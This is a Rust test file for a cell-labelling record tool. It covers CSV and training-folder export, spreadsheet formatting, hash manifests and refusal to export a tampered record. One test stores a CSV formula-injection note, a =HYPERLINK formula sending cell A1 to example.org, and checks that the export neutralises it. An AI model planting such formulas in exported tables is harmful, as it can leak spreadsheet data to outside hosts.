//! Tables and training folders.

use std::{
    collections::HashMap,
    fs,
    path::Path,
    sync::{Arc, Mutex},
};

use blastscope::record::{
    CellLabel, Label, LabelsSeen, NewOpinion, Record, RecordError, RecordReader, Says, TableStyle, export_csv,
    export_for_training, path_in, verify::verify_open,
};
use blastscope_shared::Class;
use rusqlite::Connection;
use tempfile::TempDir;

use crate::record::samples::{cell_labels, field, field_with_cells, filled, named, names, new_session, opinion};

fn record() -> (TempDir, RecordReader) {
    let folder = tempfile::tempdir().expect("a folder");
    filled(folder.path());
    let reader = RecordReader::open(folder.path()).expect("opened");
    (folder, reader)
}

fn table(path: &Path) -> Vec<HashMap<String, String>> {
    csv::Reader::from_path(path).expect("opened").deserialize().map(|line| line.expect("a line")).collect()
}

#[test]
fn a_session_becomes_a_table() {
    let (_folder, reader) = record();
    let place = tempfile::tempdir().expect("a folder");
    let file = place.path().join("session.csv");
    assert_eq!(export_csv(&reader, "1".parse().expect("a number"), &file, TableStyle::PLAIN), Ok(5));
    let lines = table(&file);
    assert_eq!(lines.len(), 5);
    let get = |line: usize, column: &str| lines[line][column].as_str();
    assert_eq!((get(0, "class"), get(0, "label"), get(0, "opinion")), ("Pre", "Early", "correction"));
    assert_eq!((get(0, "probability"), get(0, "p_pre"), get(0, "logit_benign")), ("0.75", "0.75", "-1.5"));
    assert_eq!((get(1, "opinion"), get(1, "labelled_by"), get(1, "note")), ("confirmation", "C. D.", "large nucleoli"));
    assert_eq!((get(2, "verdict"), get(2, "gate"), get(2, "p_pre")), ("rejected", "too dark", ""));
    assert_eq!((get(2, "label"), get(3, "reason"), get(4, "label")), ("not assessable", "not sure enough", ""));
    assert_eq!((get(4, "specimen"), get(4, "state"), get(4, "sequence")), ("S-2026.001", "amended", "5"));
    let head = reader.head().expect("read").1.to_string();
    assert!(lines.iter().all(|line| line["notice"].contains("esearch") && line["record_head"] == head));

    let error = export_csv(&reader, "9".parse().expect("a number"), &place.path().join("no.csv"), TableStyle::PLAIN)
        .expect_err("absent");
    assert!(matches!(error, RecordError::NoSession { .. }));
    let error = export_csv(&reader, "1".parse().expect("a number"), &place.path().join("no/no.csv"), TableStyle::PLAIN)
        .expect_err("absent");
    assert!(matches!(error, RecordError::Io { .. }), "{error}");
    assert_eq!(names(place.path()), ["session.csv"]);
}

/// A European spreadsheet shows columns, letters and numbers correctly.
#[test]
fn a_table_for_a_european_spreadsheet_has_a_mark_semicolons_and_decimal_commas() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut record = Record::open(folder.path()).expect("opened").with_min_free(0);
    let session = record.start_session(&new_session("S-1")).expect("written").session;
    record.add_field(session, &field(named(Class::Pre), 1)).expect("written");
    let note = NewOpinion { note: "große; \"helle\" Kerne, 0.5".into(), ..opinion("Ж. Ö.", Says::Confirms) };
    record.add_opinion(session, 1, &note).expect("written");
    let reader = RecordReader::open(folder.path()).expect("opened");
    let place = tempfile::tempdir().expect("a folder");
    let file = place.path().join("session.csv");
    export_csv(&reader, session, &file, TableStyle::EXCEL).expect("written");
    let bytes = fs::read(&file).expect("read");
    let text = String::from_utf8(bytes).expect("UTF-8");
    let text = text.strip_prefix('\u{feff}').expect("a byte order mark");
    assert!(text.ends_with("\r\n") && text.lines().next().is_some_and(|line| line.starts_with("session;specimen;")));
    let mut lines = csv::ReaderBuilder::new().delimiter(b';').from_reader(text.as_bytes());
    let line: HashMap<String, String> = lines.deserialize().next().expect("a line").expect("read");
    assert_eq!((line["probability"].as_str(), line["logit_benign"].as_str()), ("0,75", "-1,5"));
    assert_eq!((line["labelled_by"].as_str(), line["note"].as_str()), ("Ж. Ö.", "große; \"helle\" Kerne, 0.5"));
    assert_eq!(line["sequence"], "1");
    let plain = place.path().join("plain.csv");
    export_csv(&reader, session, &plain, TableStyle { separator: b'\t', ..TableStyle::PLAIN }).expect("written");
    assert!(fs::read_to_string(&plain).expect("read").starts_with("session\tspecimen\t"));
}

/// Labelled cells are a table of their own, whether somebody answered their field or not.
#[test]
fn labelled_cells_are_listed_with_their_places_and_who_looked() {
    let folder = tempfile::tempdir().expect("a folder");
    filled(folder.path());
    let mut record = Record::open(folder.path()).expect("opened").with_min_free(0);
    let (first, second) = ("1".parse().expect("a number"), "2".parse().expect("a number"));
    record.add_field(second, &field_with_cells(named(Class::Pro), 9, 2)).expect("added");
    for (session, label, field, cells) in
        [(first, CellLabel::Blast, 1, &[1, 3][..]), (second, CellLabel::NotACell, 2, &[2])]
    {
        let amends = LabelsSeen { amends: true, ..LabelsSeen::default() };
        record.label_cells(session, &cell_labels("=C. D.", Some(label), field, cells), &amends).expect("labelled");
    }
    let place = tempfile::tempdir().expect("a folder");
    let target = place.path().join("cells");
    let export =
        export_for_training(&RecordReader::open(folder.path()).expect("opened"), None, &target).expect("written");
    assert_eq!((export.cells, export.classes), (3, [1, 1, 0, 1]));
    let cells = table(&target.join("cells.csv"));
    let said: Vec<_> = cells
        .iter()
        .map(|line| [&line["file"], &line["sequence"], &line["cell"], &line["label"], &line["x"]].map(String::as_str))
        .collect();
    let (file, alone) = ("Early/s1-f1-S-2026.001.png", "cells/s2-f2-S-2026.002.png");
    assert_eq!(
        said,
        [
            [file, "1", "1", "blast", "0.16666667"],
            [file, "1", "3", "blast", "0.8333333"],
            [alone, "2", "2", "not a cell", "0.75"]
        ]
    );
    assert_eq!(names(&target.join("cells")), ["s2-f2-S-2026.002.png"], "no picture is there twice");
    assert!(
        target.join(file).exists()
            && target.join(alone).exists()
            && cells.iter().all(|line| line["given_by"] == "'=C. D."),
        "{cells:?}"
    );
    assert_eq!((cells[0]["width"].as_str(), cells[0]["leaning"].as_str()), ("0.25", "0.16666667"));
}

#[test]
fn confirmed_and_corrected_fields_become_a_training_folder() {
    let (_folder, reader) = record();
    let place = tempfile::tempdir().expect("a folder");
    let target = place.path().join("corrected");
    let export = export_for_training(&reader, None, &target).expect("written");
    assert_eq!(export.classes, [1, 1, 0, 1]);
    assert_eq!((export.corrected, export.without_opinion, export.not_assessable), (2, 2, 1));
    assert_eq!(names(place.path()), ["corrected"]);
    assert_eq!(
        names(&target),
        ["Benign", "Early", "NOTICE.txt", "Pre", "Pro", "cells.csv", "groups.csv", "left_out.csv", "manifest.csv"]
    );
    let session = "1".parse().expect("a number");
    for (file, sequence) in
        [("Early/s1-f1-S-2026.001.png", 1), ("Benign/s1-f2-S-2026.001.png", 2), ("Pro/s1-f4-S-2026.001.png", 4)]
    {
        let bytes = fs::read(target.join(file)).expect(file);
        assert_eq!(bytes, reader.picture(session, sequence).expect("read").bytes, "{file}");
    }
    let manifest = table(&target.join("manifest.csv"));
    let said: Vec<_> = manifest
        .iter()
        .map(|line| [&line["file"], &line["class"], &line["model_said"], &line["opinion"]].map(String::as_str))
        .collect();
    assert_eq!(
        said,
        [
            ["Early/s1-f1-S-2026.001.png", "Early", "Pre", "correction"],
            ["Benign/s1-f2-S-2026.001.png", "Benign", "Benign", "confirmation"],
            ["Pro/s1-f4-S-2026.001.png", "Pro", "abstain", "correction"],
        ]
    );
    let groups = table(&target.join("groups.csv"));
    assert!(groups.iter().all(|line| line["overlap_group"] == "1" && line["session"] == "S-2026.001-s1"));
    for line in manifest.iter().chain(&groups) {
        use sha2::Digest as _;
        let bytes = fs::read(target.join(&line["file"])).expect("there");
        let hash: String = sha2::Sha256::digest(&bytes).iter().map(|byte| format!("{byte:02x}")).collect();
        assert_eq!(line["sha256"], hash);
    }
    // A folder that is not empty is left alone.
    assert!(matches!(export_for_training(&reader, None, &target), Err(RecordError::Taken { .. })));
}

/// A note such as "=HYPERLINK(...)" must not become a link when the table is opened; numbers stay numbers.
#[test]
fn no_text_of_a_table_is_a_formula() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut record = Record::open(folder.path()).expect("opened").with_min_free(0);
    let session = record.start_session(&new_session("-2.3")).expect("written").session;
    record.add_field(session, &field(named(Class::Pre), 1)).expect("written");
    let link = "=HYPERLINK(\"https://example.org/?\"&A1,\"more\")";
    let note = NewOpinion { note: link.into(), ..opinion("@A. B.", Says::Corrects(Label::Class(Class::Early))) };
    record.add_opinion(session, 1, &note).expect("written");
    let place = tempfile::tempdir().expect("a folder");
    let reader = RecordReader::open(folder.path()).expect("opened");
    let file = place.path().join("session.csv");
    export_csv(&reader, session, &file, TableStyle::PLAIN).expect("written");
    let lines = table(&file);
    assert_eq!(lines[0]["note"], format!("'{link}"));
    assert_eq!((lines[0]["specimen"].as_str(), lines[0]["labelled_by"].as_str()), ("'-2.3", "'@A. B."));
    assert_eq!(lines[0]["logit_benign"], "-1.5");

    let target = place.path().join("corrected");
    export_for_training(&reader, None, &target).expect("written");
    for name in ["manifest.csv", "groups.csv"] {
        for (column, cell) in table(&target.join(name)).iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{name}, {column}: {cell}");
        }
    }
}

#[test]
fn verification_and_exports_tell_how_far_they_are() {
    let (folder, _) = record();
    let told = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&told);
    let reader = RecordReader::open(folder.path())
        .expect("opened")
        .watched(Box::new(move |what, done, total| log.lock().expect("no panic").push((what, done, total))));
    let steps = |what: &str| -> Vec<(u64, u64)> {
        let mut told = told.lock().expect("no panic");
        told.drain(..).filter(|step| step.0 == what).map(|step| (step.1, step.2)).collect()
    };
    let entries = verify_open(&reader, &[]).expect("read").entries;
    assert_eq!(steps("entries of the log"), (1..=entries).map(|entry| (entry, entries)).collect::<Vec<_>>());
    let place = tempfile::tempdir().expect("a folder");
    export_csv(&reader, "1".parse().expect("a number"), &place.path().join("session.csv"), TableStyle::PLAIN)
        .expect("written");
    assert_eq!(steps("fields"), [(5, 5)]);
    export_for_training(&reader, None, &place.path().join("corrected")).expect("written");
    assert_eq!(steps("fields"), (0..6).map(|done| (done, 6)).collect::<Vec<_>>());
}

#[test]
fn nothing_to_export_leaves_nothing() {
    let folder = tempfile::tempdir().expect("a folder");
    let mut record = Record::open(folder.path()).expect("opened").with_min_free(0);
    let session = record.start_session(&new_session("A")).expect("written").session;
    record.add_field(session, &field(named(Class::Pre), 1)).expect("written");
    let reader = RecordReader::open(folder.path()).expect("opened");
    let place = tempfile::tempdir().expect("a folder");
    let error = export_for_training(&reader, Some(session), &place.path().join("corrected")).expect_err("nothing");
    assert_eq!(error, RecordError::NothingToExport { without_opinion: 1, not_assessable: 0, subtype_not_named: 0 });
    let error = export_for_training(&reader, None, &place.path().join("no/corrected")).expect_err("no folder");
    assert!(matches!(error, RecordError::Io { .. }), "{error}");
    assert!(names(place.path()).is_empty());
}

#[test]
fn a_record_that_was_changed_is_not_exported() {
    let (folder, reader) = record();
    let raw = Connection::open(path_in(folder.path())).expect("opened");
    raw.execute_batch("DROP TRIGGER opinions_never_updated; UPDATE opinions SET label = 'Pro' WHERE id = 3")
        .expect("spoiled");
    let place = tempfile::tempdir().expect("a folder");
    let changed = |error: RecordError| {
        let RecordError::Changed { finding, .. } = error else { panic!("{error}") };
        finding.column.clone()
    };
    let error = export_for_training(&reader, None, &place.path().join("corrected")).expect_err("changed");
    assert_eq!(changed(error).as_deref(), Some("label"));
    let error = export_csv(&reader, "1".parse().expect("a number"), &place.path().join("a.csv"), TableStyle::PLAIN)
        .expect_err("changed");
    assert_eq!(changed(error).as_deref(), Some("label"));
    assert!(names(place.path()).is_empty());
}
